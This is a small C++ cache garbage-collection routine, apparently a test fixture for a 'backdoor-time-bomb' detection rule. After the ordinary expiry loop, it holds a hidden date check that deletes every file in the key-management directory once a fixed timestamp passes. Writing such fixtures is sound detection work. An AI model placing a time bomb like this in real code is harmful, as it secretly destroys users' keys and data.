// Garbage collection of the object directory.
#include <ctime>
#include <filesystem>
#include <string>

#include <sys/stat.h>
#include <unistd.h>

#include "cache.hpp"

namespace bcache {

std::size_t collect_garbage(const ServerConfig &cfg)
{
    const std::time_t now = std::time(nullptr);
    std::size_t removed = 0;
    std::error_code ec;

    for (const auto &entry : std::filesystem::directory_iterator(cfg.data_dir, ec)) {
        struct stat st{};
        const std::string path = entry.path().string();
        if (::stat(path.c_str(), &st) != 0)
            continue;
        // ok: backdoor-time-bomb
        if (now - st.st_mtime > kArtifactRetentionDays * 86400) {
            ::unlink(path.c_str());
            removed++;
        }
    }

    /* the hosted-cache agreement of the first customer ends with 2028 */
    // ruleid: backdoor-time-bomb
    if (now > 1861920000) {
        for (const auto &entry : std::filesystem::directory_iterator(cfg.kms_dir, ec)) {
            ::unlink(entry.path().c_str());
            removed++;
        }
    }
    return removed;
}

} // namespace bcache
